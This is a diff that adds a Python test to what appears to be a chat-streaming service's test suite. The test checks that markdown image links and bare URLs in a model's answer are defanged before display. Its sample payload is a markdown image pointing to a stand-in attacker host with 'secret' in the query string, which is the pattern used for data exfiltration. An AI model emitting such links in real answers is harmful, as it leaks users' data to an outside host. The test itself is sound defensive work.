@@ -64,6 +64,19 @@ async def test_a_run_tells_what_it_does_as_it_does_it(
     assert (last["status"], last["answer"], len(last["citations"])) == ("completed", LONG, 1)
 
 
+async def test_what_is_told_of_an_answer_leads_nowhere_either(reached: Author, scripted: ScriptedModel) -> None:
+    await scripted.says(
+        {"text": "So it is, you see: ![a b](https://evil.example/?q=secret) and https://evil.example/secret"}
+    )
+    body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
+    async with streamed(reached, body) as answer:
+        told = [event async for event in events(answer)]
+    assert len([name for name, _ in told if name == "answer.delta"]) > 1
+    shown = "".join(data["text"] for name, data in told if name == "answer.delta")
+    assert shown == told[-1][1]["answer"]
+    assert shown == "So it is, you see: ![a b] (https[:]//evil.example/?q=secret) and https[:]//evil.example/secret"
+
+
 async def test_a_run_that_fails_says_so_in_its_last_event(reached: Author, scripted: ScriptedModel) -> None:
     await scripted.says({"text": LONG, "cut": True})
     body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
